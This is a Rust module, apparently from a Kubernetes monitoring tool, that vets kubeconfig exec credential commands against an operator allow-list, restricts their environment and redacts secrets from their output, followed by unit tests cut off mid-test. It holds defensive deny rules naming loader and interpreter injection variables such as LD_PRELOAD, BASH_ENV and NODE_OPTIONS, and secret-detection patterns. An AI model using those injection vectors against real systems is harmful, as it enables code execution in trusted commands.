//! Kubeconfig users whose credentials come from an `exec` command (`aws eks get-token`,
//! `gke-gcloud-auth-plugin`, `kubelogin`…), and the operator's rules for running one.
//!
//! vigil speaks the `client.authentication.k8s.io` `ExecCredential` protocol as kubectl does
//! (`v1` and `v1beta1`): the command is found as kubectl finds it, runs with its `args`, no
//! standard input, an explicit environment and `KUBERNETES_EXEC_INFO`, and prints an
//! `ExecCredential` whose `status` holds a bearer token or a client certificate. Running a
//! command that a file names is how a kubeconfig becomes an attack: its author picks the
//! program, its arguments and its environment. So the operator decides all three
//! ([`ExecPolicy`]): the program and its arguments must fit an entry of the allow-list file
//! ([`allow_list`]), the kubeconfig's `env` may set only the names the operator lists, and
//! a Secret's kubeconfig runs nothing unless the operator says so.
//!
//! This module is the pure part: what the kubeconfig says ([`ExecSpec`]), whether it may
//! run ([`ExecPolicy::admit`]), the environment and request it runs with, and the reading
//! of its output ([`parse_output`]). The plugin runtime runs the process and keeps the
//! credentials.

pub mod allow_list;

use std::ffi::{OsStr, OsString};
use std::fmt;
use std::path::{Path, PathBuf};

use base64::Engine as _;
use kube::config::{Cluster, ExecConfig, ExecInteractiveMode};
use serde::Deserialize;

use crate::reference::{ConnectionMaterial, Resolution};
use allow_list::{AllowList, ArgsRefused};

/// The setting of the names a kubeconfig's `exec` `env` may set, for messages.
pub const KUBECONFIG_ENV_SETTING: &str = "VIGIL_EXEC_KUBECONFIG_ENV";

/// The `v1` version of the protocol.
pub const API_V1: &str = "client.authentication.k8s.io/v1";
/// The `v1beta1` version of the protocol.
pub const API_V1BETA1: &str = "client.authentication.k8s.io/v1beta1";
/// The removed `v1alpha1` version, named in its refusal.
const API_V1ALPHA1: &str = "client.authentication.k8s.io/v1alpha1";

/// The cluster extension handed to the command as `spec.cluster.config`.
pub const CLUSTER_EXTENSION: &str = "client.authentication.k8s.io/exec";

/// The most a command may print on its standard output.
pub const MAX_OUTPUT_BYTES: usize = 1 << 20;

/// The `PATH` a command runs with: the system's binaries, nothing of vigil's own.
pub const CHILD_PATH: &str = "/usr/local/bin:/usr/bin:/bin";

/// The environment variable of the request, as kubectl sets it.
pub const EXEC_INFO_VARIABLE: &str = "KUBERNETES_EXEC_INFO";

/// The longest piece of a command's standard error quoted in a message, in characters.
const MAX_QUOTED_CHARS: usize = 200;

/// A kubeconfig user's `exec` section, as vigil read it. `Debug` names the command and the
/// environment variables, never their values nor the arguments (either may carry a secret).
#[derive(Clone, PartialEq, Eq)]
pub struct ExecSpec {
    /// `apiVersion`, as written.
    pub api_version: Option<String>,
    /// `command`, as written.
    pub command: String,
    /// `args`.
    pub args: Vec<String>,
    /// `env`, in order.
    pub env: Vec<(String, String)>,
    /// `interactiveMode`: `Never`, `IfAvailable` or `Always`.
    pub interactive_mode: Option<String>,
    /// `provideClusterInfo`.
    pub provide_cluster_info: bool,
    /// `installHint`, quoted when the command is not found.
    pub install_hint: Option<String>,
    /// The cluster's `client.authentication.k8s.io/exec` extension, as JSON text.
    pub cluster_config: Option<String>,
    /// The directory of the kubeconfig file it was read from (a command containing `/` is
    /// relative to it); `None` for a kubeconfig read from a Kubernetes Secret.
    pub kubeconfig_dir: Option<PathBuf>,
}

impl fmt::Debug for ExecSpec {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("ExecSpec")
            .field("api_version", &self.api_version)
            .field("command", &self.command)
            .field("args", &self.args.len())
            .field(
                "env",
                &self.env.iter().map(|(name, _)| name).collect::<Vec<_>>(),
            )
            .field("interactive_mode", &self.interactive_mode)
            .field("provide_cluster_info", &self.provide_cluster_info)
            .field("kubeconfig_dir", &self.kubeconfig_dir)
            .finish_non_exhaustive()
    }
}

impl ExecSpec {
    /// What `exec` and its cluster's extension say; `kubeconfig_dir` as for
    /// [`ExecSpec::kubeconfig_dir`]. An `env` entry without a `name` is an error.
    pub fn read(
        exec: &ExecConfig,
        cluster: &Cluster,
        kubeconfig_dir: Option<&Path>,
    ) -> Result<Self, String> {
        let mut env = Vec::new();
        for entry in exec.env.iter().flatten() {
            let name = entry
                .get("name")
                .filter(|name| !name.is_empty())
                .ok_or_else(|| "an entry of its exec env has no name".to_owned())?;
            env.push((
                name.clone(),
                entry.get("value").cloned().unwrap_or_default(),
            ));
        }
        let cluster_config = cluster
            .extensions
            .iter()
            .flatten()
            .find(|extension| extension.name == CLUSTER_EXTENSION)
            .map(|extension| extension.extension.to_string());
        Ok(Self {
            api_version: exec.api_version.clone(),
            command: exec.command.clone().unwrap_or_default(),
            args: exec.args.clone().unwrap_or_default(),
            env,
            interactive_mode: exec.interactive_mode.as_ref().map(|mode| {
                match mode {
                    ExecInteractiveMode::Never => "Never",
                    ExecInteractiveMode::IfAvailable => "IfAvailable",
                    ExecInteractiveMode::Always => "Always",
                }
                .to_owned()
            }),
            provide_cluster_info: exec.provide_cluster_info,
            install_hint: exec.install_hint.clone(),
            cluster_config,
            kubeconfig_dir: kubeconfig_dir.map(Path::to_path_buf),
        })
    }

    /// The command's file name, for messages.
    pub fn command_name(&self) -> String {
        Path::new(&self.command).file_name().map_or_else(
            || self.command.clone(),
            |name| name.to_string_lossy().into_owned(),
        )
    }
}

/// The version of the protocol a command speaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExecVersion {
    /// `client.authentication.k8s.io/v1`.
    V1,
    /// `client.authentication.k8s.io/v1beta1`.
    V1Beta1,
}

impl ExecVersion {
    /// Its `apiVersion`.
    pub fn api_version(self) -> &'static str {
        match self {
            Self::V1 => API_V1,
            Self::V1Beta1 => API_V1BETA1,
        }
    }
}

/// A command the policy lets run: where it really is, and how to speak to it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Admitted {
    /// The command's real path (every link followed): what is executed.
    pub program: PathBuf,
    /// The protocol version.
    pub version: ExecVersion,
    /// The line of the allow-list file whose entry its arguments fit.
    pub entry_line: usize,
}

/// The operator's rules for running exec commands.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ExecPolicy {
    /// What may run, with which arguments (`VIGIL_EXEC_ALLOW_FILE`).
    pub allow: AllowList,
    /// Variables of vigil's own environment handed to every command (`VIGIL_EXEC_ENV`).
    pub pass_env: Vec<String>,
    /// The names a kubeconfig's `exec` `env` may set (`VIGIL_EXEC_KUBECONFIG_ENV`); any
    /// other name makes its cluster not probeable.
    pub kubeconfig_env: Vec<String>,
    /// Whether a kubeconfig read from a Kubernetes Secret may run its command
    /// (`VIGIL_EXEC_FROM_SECRETS`).
    pub from_secrets: bool,
}

/// Why a policy setting is refused at start-up.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{variable}: {reason}")]
pub struct PolicyError {
    /// The setting.
    pub variable: &'static str,
    /// What is wrong.
    pub reason: String,
}

impl ExecPolicy {
    /// The policy, checked: the variables passed through (`pass_env`) and those a
    /// kubeconfig may set (`kubeconfig_env`) are plain names, none of vigil's own settings
    /// (`VIGIL_*`, `DATABASE_URL`) and none the command's environment sets itself (`PATH`,
    /// `HOME`, loader variables, `KUBERNETES_EXEC_INFO`); and no name is in both lists (a
    /// kubeconfig never overrides what the operator passes through).
    pub fn new(
        allow: AllowList,
        pass_env: Vec<String>,
        kubeconfig_env: Vec<String>,
        from_secrets: bool,
    ) -> Result<Self, PolicyError> {
        let pass_env = checked_names("VIGIL_EXEC_ENV", pass_env)?;
        let kubeconfig_env = checked_names(KUBECONFIG_ENV_SETTING, kubeconfig_env)?;
        if let Some(name) = kubeconfig_env.iter().find(|name| pass_env.contains(name)) {
            return Err(PolicyError {
                variable: KUBECONFIG_ENV_SETTING,
                reason: format!(
                    "{name} is also in VIGIL_EXEC_ENV, which passes vigil's own value to every command; a kubeconfig never overrides it, so list it in one of the two"
                ),
            });
        }
        Ok(Self {
            allow,
            pass_env,
            kubeconfig_env,
            from_secrets,
        })
    }

    /// Whether `spec` may run, and what runs: the protocol version is one vigil speaks, the
    /// command would not need a terminal, its `env` sets only names the operator allows a
    /// kubeconfig to set, a Secret's kubeconfig is allowed to run commands, the command's
    /// real path — found as kubectl finds it, `PATH` being `path_var` (vigil's own) — is
    /// the program of an entry of the allow-list, and its `args` fit one of those entries.
    /// Nothing runs to decide. The refusal says what is wrong and what would allow it; it
    /// never quotes a value of the kubeconfig's `args` or `env`.
    pub fn admit(&self, spec: &ExecSpec, path_var: Option<&OsStr>) -> Result<Admitted, String> {
        let version = match spec.api_version.as_deref() {
            Some(API_V1) => ExecVersion::V1,
            Some(API_V1BETA1) => ExecVersion::V1Beta1,
            Some(API_V1ALPHA1) => {
                return Err(format!(
                    "its exec apiVersion {API_V1ALPHA1} was removed from Kubernetes; use {API_V1} or {API_V1BETA1}"
                ));
            }
            Some(other) => {
                return Err(format!(
                    "its exec apiVersion {other:?} is not one vigil speaks ({API_V1} or {API_V1BETA1})"
                ));
            }
            None => {
                return Err(format!(
                    "its exec section has no apiVersion ({API_V1} or {API_V1BETA1})"
                ));
            }
        };
        match (spec.interactive_mode.as_deref(), version) {
            (Some("Always"), _) => {
                return Err(
                    "its exec command needs a terminal (interactiveMode Always), which vigil never has"
                        .to_owned(),
                );
            }
            (None, ExecVersion::V1) => {
                return Err(format!(
                    "its exec section must set interactiveMode with {API_V1}"
                ));
            }
            _ => {}
        }
        self.check_env(spec)?;
        if !self.from_secrets {
            match spec.kubeconfig_dir.as_deref() {
                None => {
                    return Err(
                        "it is read from a Kubernetes Secret, and exec commands of kubeconfigs in Secrets run only with VIGIL_EXEC_FROM_SECRETS=true (whoever writes the Secret chooses the command's arguments)"
                            .to_owned(),
                    );
                }
                Some(dir) if is_mounted_volume(dir) => {
                    return Err(format!(
                        "it is read from {}, a volume Kubernetes mounted from a Secret or ConfigMap (it holds ..data), and exec commands of kubeconfigs in Secrets run only with VIGIL_EXEC_FROM_SECRETS=true (whoever writes the Secret chooses the command's arguments)",
                        dir.display()
                    ));
                }
                Some(_) => {}
            }
        }
        let found = self.find(spec, path_var)?;
        let program = std::fs::canonicalize(&found).map_err(|error| {
            format!(
                "its exec command {} cannot be resolved: {error}",
                found.display()
            )
        })?;
        let through = if program == found {
            String::new()
        } else {
            format!(" (reached through {})", found.display())
        };
        let setting = allow_list::SETTING;
        let entries: Vec<_> = self.allow.for_program(&program).collect();
        if entries.is_empty() {
            let why = if self.allow.is_empty() {
                format!("{setting} allows no command, so vigil runs no exec command")
            } else {
                format!("no entry of {setting} names {}", program.display())
            };
            return Err(format!(
                "its exec command {}{through} is not allowed: {why}; add a line starting with its real path {} to {setting} to let vigil run it",
                program.display(),
                program.display()
            ));
        }
        let mut best: Option<ArgsRefused> = None;
        let mut entry_line = None;
        for entry in &entries {
            match entry.check(&spec.args) {
                Ok(()) => {
                    entry_line = Some(entry.line);
                    break;
                }
                Err(refused) => {
                    if best
                        .as_ref()
                        .is_none_or(|best| refused.fitted > best.fitted)
                    {
                        best = Some(refused);
                    }
                }
            }
        }
        let Some(entry_line) = entry_line else {
            let lines = entries
                .iter()
                .map(|entry| entry.line.to_string())
                .collect::<Vec<_>>()
                .join(", ");
            let reason = best.map(|refused| refused.reason).unwrap_or_default();
            return Err(format!(
                "its exec command {}{through} may not run with these arguments: {reason} (its arguments must fit an entry of {setting} for it: line{} {lines})",
                program.display(),
                if entries.len() == 1 { "" } else { "s" }
            ));
        };
        let metadata = std::fs::metadata(&program).map_err(|error| {
            format!(
                "its exec command {} cannot be read: {error}",
                program.display()
            )
        })?;
        if !metadata.is_file() {
            return Err(format!(
                "its exec command {} is not a file",
                program.display()
            ));
        }
        // Allowed by its path: whoever can change the file, or a directory on its path,
        // would decide what runs.
        crate::trust::check_file(&program).map_err(|why| {
            format!(
                "its exec command {} may not run: {why} (only vigil's user and root may be able to change an allowed program)",
                program.display()
            )
        })?;
        Ok(Admitted {
            program,
            version,
            entry_line,
        })
    }

    /// The kubeconfig's `env` sets only names the operator lets it set: never one vigil
    /// sets itself or one that steers the loader, never one the operator passes through,
    /// and only names of `VIGIL_EXEC_KUBECONFIG_ENV` (interpreters read `BASH_ENV`,
    /// `NODE_OPTIONS`, `PYTHONPATH`… as code to run; tools read `AWS_CONFIG_FILE`… as where
    /// to talk). Values are never quoted.
    fn check_env(&self, spec: &ExecSpec) -> Result<(), String> {
        for (name, _) in &spec.env {
            if !is_variable_name(name) {
                return Err(format!(
                    "its exec env names {:?}, which is not an environment variable name",
                    quote_line(name)
                ));
            }
            if refused_variable(name) {
                return Err(format!(
                    "its exec env sets {name}, which vigil refuses (PATH, HOME and TMPDIR are vigil's, loader variables could run any code)"
                ));
            }
            if self.pass_env.contains(name) {
                return Err(format!(
                    "its exec env sets {name}, which the operator passes from vigil's own environment (VIGIL_EXEC_ENV); a kubeconfig never overrides it"
                ));
            }
            if !self.kubeconfig_env.contains(name) {
                let listed = if self.kubeconfig_env.is_empty() {
                    "none is listed".to_owned()
                } else {
                    format!("it lists {}", self.kubeconfig_env.join(","))
                };
                return Err(format!(
                    "its exec env sets {name}, which {KUBECONFIG_ENV_SETTING} does not allow: a kubeconfig's exec env may set only the names listed there ({listed}); list a name there only if whoever writes a kubeconfig may choose its value"
                ));
            }
        }
        Ok(())
    }

    /// The command's path as kubectl finds it: with a `/`, absolute or relative to the
    /// kubeconfig's directory; a bare name, the first executable file of that name in
    /// `PATH`.
    fn find(&self, spec: &ExecSpec, path_var: Option<&OsStr>) -> Result<PathBuf, String> {
        let command = spec.command.as_str();
        if command.is_empty() {
            return Err("its exec section names no command".to_owned());
        }
        if command.contains('/') {
            let path = Path::new(command);
            if path.is_absolute() {
                return Ok(path.to_path_buf());
            }
            return match &spec.kubeconfig_dir {
                Some(dir) => Ok(dir.join(path)),
                None => Err(format!(
                    "its exec command {command:?} is relative, and a kubeconfig in a Secret has no directory to resolve it against"
                )),
            };
        }
        std::env::split_paths(path_var.unwrap_or_default())
            .filter(|dir| dir.is_absolute())
            .map(|dir| dir.join(command))
            .find(|candidate| is_executable_file(candidate))
            .ok_or_else(|| {
                let hint = spec
                    .install_hint
                    .as_deref()
                    .map(|hint| format!(" ({})", quote_line(hint)))
                    .unwrap_or_default();
                format!("its exec command {command:?} is not found in PATH{hint}")
            })
    }

    /// The command's environment: [`CHILD_PATH`], `HOME` and `TMPDIR` (the commands' own
    /// directories, `own`: never vigil's home, which holds its cache), the variables of
    /// [`ExecPolicy::pass_env`] that vigil's environment (`lookup`) has, the kubeconfig's
    /// `env` entries whose names [`ExecPolicy::kubeconfig_env`] lists, and
    /// `KUBERNETES_EXEC_INFO`. Nothing else of vigil's environment.
    pub fn environment(
        &self,
        spec: &ExecSpec,
        exec_info: &str,
        own: OwnDirs<'_>,
        lookup: impl Fn(&str) -> Option<OsString>,
    ) -> Vec<(OsString, OsString)> {
        let mut env: Vec<(OsString, OsString)> = vec![
            ("PATH".into(), CHILD_PATH.into()),
            ("HOME".into(), own.home.into()),
            ("TMPDIR".into(), own.temp.into()),
        ];
        for name in &self.pass_env {
            if let Some(value) = lookup(name) {
                env.push((name.into(), value));
            }
        }
        // `admit` refused any other name; checked again so that the environment never
        // depends on the caller having asked.
        for (name, value) in spec.env.iter().filter(|(name, _)| {
            self.kubeconfig_env.contains(name)
                && !self.pass_env.contains(name)
                && !refused_variable(name)
        }) {
            env.retain(|(existing, _)| existing != OsStr::new(name));
            env.push((name.into(), value.into()));
        }
        env.retain(|(name, _)| name != EXEC_INFO_VARIABLE);
        env.push((EXEC_INFO_VARIABLE.into(), exec_info.into()));
        env
    }
}

/// The directories a command has of its own: its `HOME` and its `TMPDIR`.
#[derive(Debug, Clone, Copy)]
pub struct OwnDirs<'a> {
    /// Its `HOME`.
    pub home: &'a Path,
    /// Its `TMPDIR`.
    pub temp: &'a Path,
}

/// Whether a context can be probed, and the line that says why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Probeability {
    /// Whether it can be probed.
    pub probeable: bool,
    /// Why (or why not), in the words of the engine's log.
    pub described: String,
}

/// How messages about an `exec` user name it: `kubeconfig PATH: user "U" of context "C"`.
pub fn owner(material: &ConnectionMaterial) -> String {
    format!(
        "kubeconfig {}: user {:?} of context {:?}",
        material.kubeconfig.display(),
        material.user.as_deref().unwrap_or_default(),
        material.context
    )
}

/// `resolution` judged as the engine would, its `exec` command (if any) by `policy`, with
/// vigil's own `PATH` as `path_var`: what discovery logs and `vigil discover --dry-run`
/// prints. (Whether the plugin that will probe it is granted `exec-credentials` is known
/// only when it probes.)
pub fn judge(
    resolution: &Resolution,
    policy: &ExecPolicy,
    path_var: Option<&OsStr>,
) -> Probeability {
    if let Resolution::Connection(material) = resolution
        && let Some(spec) = material.exec.as_deref()
    {
        let owner = owner(material);
        return match policy.admit(spec, path_var) {
            Ok(admitted) => Probeability {
                probeable: true,
                described: format!(
                    "{}; exec command {} allowed by {} (line {}; for plugins granted exec-credentials)",
                    resolution.describe(),
                    admitted.program.display(),
                    allow_list::SETTING,
                    admitted.entry_line
                ),
            },
            Err(why) => Probeability {
                probeable: false,
                described: Resolution::NotProbeable {
                    class: vigil_decision::ReasonClass::ExecCredentials,
                    message: format!("{owner}: {why}"),
                }
                .describe(),
            },
        };
    }
    Probeability {
        probeable: !matches!(resolution, Resolution::NotProbeable { .. }),
        described: resolution.describe(),
    }
}

/// The cluster as `KUBERNETES_EXEC_INFO` describes it when `provideClusterInfo` is set.
#[derive(Debug, Clone, Default)]
pub struct ClusterInfo {
    /// The API server URL.
    pub server: String,
    /// The name its certificate is verified against.
    pub tls_server_name: Option<String>,
    /// Whether its certificate is not verified.
    pub insecure_skip_tls_verify: bool,
    /// The certificate authority (PEM).
    pub certificate_authority_data: Option<Vec<u8>>,
}

/// `KUBERNETES_EXEC_INFO`: the `ExecCredential` request, `spec.interactive` false (vigil has
/// no terminal), `spec.cluster` only when `provideClusterInfo` is set (with the cluster's
/// `client.authentication.k8s.io/exec` extension as its `config`).
pub fn exec_info(spec: &ExecSpec, version: ExecVersion, cluster: Option<&ClusterInfo>) -> String {
    let mut request = serde_json::json!({
        "apiVersion": version.api_version(),
        "kind": "ExecCredential",
        "spec": { "interactive": false },
    });
    if spec.provide_cluster_info
        && let Some(cluster) = cluster
    {
        let mut described = serde_json::json!({ "server": cluster.server });
        if let Some(name) = &cluster.tls_server_name {
            described["tls-server-name"] = name.clone().into();
        }
        if cluster.insecure_skip_tls_verify {
            described["insecure-skip-tls-verify"] = true.into();
        }
        if let Some(ca) = &cluster.certificate_authority_data {
            described["certificate-authority-data"] =
                base64::engine::general_purpose::STANDARD.encode(ca).into();
        }
        if let Some(config) = spec
            .cluster_config
            .as_deref()
            .and_then(|text| serde_json::from_str::<serde_json::Value>(text).ok())
        {
            described["config"] = config;
        }
        request["spec"]["cluster"] = described;
    }
    request.to_string()
}

/// What a command gave. No `Debug`: it holds a token or a key.
#[derive(Clone, PartialEq, Eq)]
pub struct IssuedCredential {
    /// The bearer token.
    pub token: Option<String>,
    /// The client certificate (PEM).
    pub client_certificate: Option<Vec<u8>>,
    /// Its private key (PEM).
    pub client_key: Option<Vec<u8>>,
    /// When it expires, in seconds since the Unix epoch.
    pub expires_at: Option<i64>,
}

impl fmt::Debug for IssuedCredential {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("IssuedCredential")
            .field("token", &self.token.as_ref().map(|_| "<redacted>"))
            .field(
                "client_certificate",
                &self.client_certificate.as_ref().map(|_| "<redacted>"),
            )
            .field("expires_at", &self.expires_at)
            .finish_non_exhaustive()
    }
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Output {
    api_version: Option<String>,
    kind: Option<String>,
    status: Option<Status>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Status {
    token: Option<String>,
    client_certificate_data: Option<String>,
    client_key_data: Option<String>,
    expiration_timestamp: Option<k8s_openapi::apimachinery::pkg::apis::meta::v1::Time>,
}

/// Reads a command's standard output: an `ExecCredential` of the version asked for, whose
/// `status` holds a token, or a client certificate and its key, or both. The message of a
/// refusal never quotes the output (it may hold a credential).
pub fn parse_output(stdout: &[u8], version: ExecVersion) -> Result<IssuedCredential, String> {
    let output: Output = serde_json::from_slice(stdout).map_err(|error| {
        format!(
            "its exec command printed no ExecCredential: not valid JSON (line {}, column {})",
            error.line(),
            error.column()
        )
    })?;
    let asked = version.api_version();
    match output.api_version.as_deref() {
        Some(answered) if answered == asked => {}
        Some(answered) => {
            return Err(format!(
                "its exec command answered apiVersion {:?} to a {asked} request",
                quote_line(answered)
            ));
        }
        None => {
            return Err(format!(
                "its exec command's ExecCredential has no apiVersion (expected {asked})"
            ));
        }
    }
    if output.kind.as_deref() != Some("ExecCredential") {
        return Err(format!(
            "its exec command printed kind {:?}, not ExecCredential",
            quote_line(output.kind.as_deref().unwrap_or_default())
        ));
    }
    let status = output
        .status
        .ok_or_else(|| "its exec command's ExecCredential has no status".to_owned())?;
    let token = status.token.filter(|token| !token.is_empty());
    let certificate = status
        .client_certificate_data
        .filter(|data| !data.is_empty());
    let key = status.client_key_data.filter(|data| !data.is_empty());
    match (&certificate, &key) {
        (Some(_), None) => {
            return Err(
                "its exec command's ExecCredential has clientCertificateData but no clientKeyData"
                    .to_owned(),
            );
        }
        (None, Some(_)) => {
            return Err(
                "its exec command's ExecCredential has clientKeyData but no clientCertificateData"
                    .to_owned(),
            );
        }
        _ => {}
    }
    if token.is_none() && certificate.is_none() {
        return Err(
            "its exec command's ExecCredential has neither a token nor a client certificate"
                .to_owned(),
        );
    }
    Ok(IssuedCredential {
        token,
        client_certificate: certificate.map(String::into_bytes),
        client_key: key.map(String::into_bytes),
        expires_at: status.expiration_timestamp.map(|time| time.0.as_second()),
    })
}

/// The first line of a command's standard error, safe to show to whoever reads a
/// cluster's reason (the API, the page, the event stream, notifications): control
/// characters replaced, anything that looks like a secret replaced by `[redacted]`
/// ([`redact`]), cut at [`MAX_QUOTED_CHARS`] characters.
pub fn first_line(stderr: &[u8]) -> String {
    let text = String::from_utf8_lossy(stderr);
    quote_line(&redact(
        text.lines()
            .map(str::trim)
            .find(|line| !line.is_empty())
            .unwrap_or_default(),
    ))
}

/// What stands in for a word that looks like a secret.
const REDACTED: &str = "[redacted]";

/// Names whose value, after `=` or `:`, is a secret (`token=…`, `password: …`).
const SECRET_NAMES: &[&str] = &[
    "token",
    "secret",
    "password",
    "passwd",
    "credential",
    "key",
    "auth",
    "session",
    "signature",
    "bearer",
];

/// `line` with what looks like a secret replaced: a value named like one (`token=…`,
/// `X-Amz-Security-Token: …`), the word after `Bearer` or `Basic`, a URL's query, and
/// any run of at least 20 key-like characters (letters, digits, `+/=_-.~`) that holds both
/// letters and digits (a JWT, an access key, a base64 blob). Paths and plain words stay:
/// a tool's message stays readable ("ExpiredToken", "/usr/local/bin/aws").
pub fn redact(line: &str) -> String {
    let mut out = Vec::new();
    let mut hide_next = false;
    let mut previous = String::new();
    for word in line.split(' ') {
        let lower = word.to_ascii_lowercase();
        // `Bearer x`, `Basic x`, and `Authorization: Bearer x`: the scheme stays.
        if matches!(lower.as_str(), "bearer" | "basic") {
            hide_next = true;
            out.push(word.to_owned());
            continue;
        }
        if word.is_empty() {
            out.push(String::new());
            continue;
        }
        if std::mem::take(&mut hide_next) {
            out.push(REDACTED.to_owned());
            continue;
        }
        // `password: x`, `token = x`: a secret's name, its value in the next word.
        let trimmed = lower.trim_end_matches([':', '=']);
        let name = if trimmed.is_empty() {
            &previous
        } else {
            trimmed
        };
        let names_a_secret = SECRET_NAMES.iter().any(|s| name.contains(s));
        let separated = lower.ends_with([':', '=']);
        previous.clone_from(&lower);
        if separated && names_a_secret {
            hide_next = true;
            out.push(word.to_owned());
            continue;
        }
        out.push(redact_word(word));
    }
    out.join(" ")
}

fn redact_word(word: &str) -> String {
    // A URL keeps its scheme, host and path; its query may carry a signature.
    if word.contains("://") {
        return match word.split_once('?') {
            Some((base, _)) => format!("{base}?{REDACTED}"),
            None => word.to_owned(),
        };
    }
    // `name=value` or `name:value` where the name says secret.
    if let Some(at) = word.find(['=', ':']) {
        let (name, value) = word.split_at(at);
        let name_lower = name.to_ascii_lowercase();
        if value.len() > 1 && SECRET_NAMES.iter().any(|s| name_lower.contains(s)) {
            return format!("{name}{}{REDACTED}", &value[..1]);
        }
    }
    let core =
        word.trim_matches(|c: char| matches!(c, '"' | '\'' | ',' | ';' | '(' | ')' | '[' | ']'));
    let key_like = core.len() >= 20
        && !core.starts_with('/')
        && core.chars().all(|c| {
            c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=' | '_' | '-' | '.' | '~')
        })
        && core.chars().any(|c| c.is_ascii_digit())
        && core.chars().any(|c| c.is_ascii_alphabetic());
    if key_like {
        return word.replace(core, REDACTED);
    }
    word.to_owned()
}

fn quote_line(text: &str) -> String {
    let mut quoted: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .take(MAX_QUOTED_CHARS)
        .collect();
    if text.chars().count() > MAX_QUOTED_CHARS {
        quoted.push('…');
    }
    quoted
}

/// `names` of a setting, trimmed, empty ones dropped, each checked: a variable name, not
/// one of vigil's own settings, not one vigil sets or refuses itself.
fn checked_names(variable: &'static str, names: Vec<String>) -> Result<Vec<String>, PolicyError> {
    let names: Vec<String> = names
        .into_iter()
        .map(|name| name.trim().to_owned())
        .filter(|name| !name.is_empty())
        .collect();
    for name in &names {
        let refused = if !is_variable_name(name) {
            Some("is not an environment variable name")
        } else if name.starts_with("VIGIL_") || name == "DATABASE_URL" {
            Some("is one of vigil's own settings, which never reach a credential command")
        } else if refused_variable(name) {
            Some(
                "is set by vigil itself (PATH, HOME, TMPDIR, KUBERNETES_EXEC_INFO) or steers the program loader",
            )
        } else {
            None
        };
        if let Some(reason) = refused {
            return Err(PolicyError {
                variable,
                reason: format!("{name} {reason}"),
            });
        }
    }
    Ok(names)
}

/// Variables a kubeconfig's `env` may not set: those vigil sets (`PATH`, `HOME`, `TMPDIR`),
/// and the dynamic loader's (`LD_PRELOAD` runs any library inside an allowed command).
fn refused_variable(name: &str) -> bool {
    name == "PATH"
        || name == "HOME"
        || name == "TMPDIR"
        || name.starts_with("LD_")
        || name.starts_with("DYLD_")
        || name == EXEC_INFO_VARIABLE
}

/// Whether `dir` is a volume the kubelet mounted from a Secret, ConfigMap or projection: its
/// files are links through a `..data` link (the kubelet's atomic writer), so whoever may
/// write that object writes the kubeconfigs.
#[must_use]
pub fn is_mounted_volume(dir: &Path) -> bool {
    std::fs::symlink_metadata(dir.join("..data")).is_ok_and(|meta| meta.file_type().is_symlink())
}

fn is_variable_name(name: &str) -> bool {
    !name.is_empty()
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

fn is_executable_file(path: &Path) -> bool {
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::metadata(path)
        .is_ok_and(|metadata| metadata.is_file() && metadata.permissions().mode() & 0o111 != 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(command: &str) -> ExecSpec {
        ExecSpec {
            api_version: Some(API_V1.to_owned()),
            command: command.to_owned(),
            args: vec!["token".to_owned()],
            env: Vec::new(),
            interactive_mode: Some("Never".to_owned()),
            provide_cluster_info: false,
            install_hint: None,
            cluster_config: None,
            kubeconfig_dir: Some(PathBuf::from("/nonexistent")),
        }
    }

    fn executable(dir: &Path, name: &str) -> PathBuf {
        use std::os::unix::fs::PermissionsExt as _;
        let path = dir.join(name);
        std::fs::write(&path, "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        path
    }

    /// A policy whose allow-list file holds `allow` and whose kubeconfigs may set
    /// `kubeconfig_env`.
    fn policy(allow: &str, kubeconfig_env: &[&str]) -> ExecPolicy {
        ExecPolicy::new(
            AllowList::parse(allow).unwrap(),
            Vec::new(),
            kubeconfig_env
                .iter()
                .map(|name| (*name).to_owned())
                .collect(),
            false,
        )
        .unwrap()
    }

    fn path_text(path: &Path) -> &str {
        path.to_str().unwrap()
    }

    #[test]
    fn an_allowed_program_others_could_change_is_refused() {
        use std::os::unix::fs::PermissionsExt as _;
        let chmod = |path: &Path, mode: u32| {
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
        };
        let top = tempfile::tempdir().unwrap();
        let top = std::fs::canonicalize(top.path()).unwrap();
        let dir = top.join("bin");
        std::fs::create_dir(&dir).unwrap();
        chmod(&dir, 0o755);
        let tool = executable(&dir, "tool");
        let allowed = policy(&format!("{} token\n", tool.display()), &[]);
        assert!(allowed.admit(&spec(path_text(&tool)), None).is_ok());
        for (path, mode) in [(&tool, 0o757), (&dir, 0o775), (&top, 0o777)] {
            let before = std::fs::metadata(path).unwrap().permissions().mode();
            chmod(path, mode);
            let refused = allowed.admit(&spec(path_text(&tool)), None).unwrap_err();
            assert!(
                refused.contains(&format!("{} is writable", path.display()))
                    && refused.contains("may not run"),
                "{refused}"
            );
            chmod(path, before);
        }
        assert!(allowed.admit(&spec(path_text(&tool)), None).is_ok());
    }

    #[test]
    fn the_real_path_must_be_listed_and_a_listed_link_allows_nothing_else() {
        let dir = tempfile::tempdir().unwrap();
        let dir = std::fs::canonicalize(dir.path()).unwrap();
        let tool = executable(&dir, "tool");
        let link = dir.join("link");
        std::os::unix::fs::symlink(&tool, &link).unwrap();

        let allowed = policy(&format!("{} token\n", tool.display()), &[]);
        let admitted = allowed.admit(&spec(path_text(&tool)), None).unwrap();
        assert_eq!(admitted.program, tool);
        assert_eq!(admitted.version, ExecVersion::V1);
        assert_eq!(admitted.entry_line, 1);
        // Through a link to an allowed file: its real path is what is checked.
        assert_eq!(
            allowed
                .admit(&spec(path_text(&link)), None)
                .unwrap()
                .program,
            tool
        );

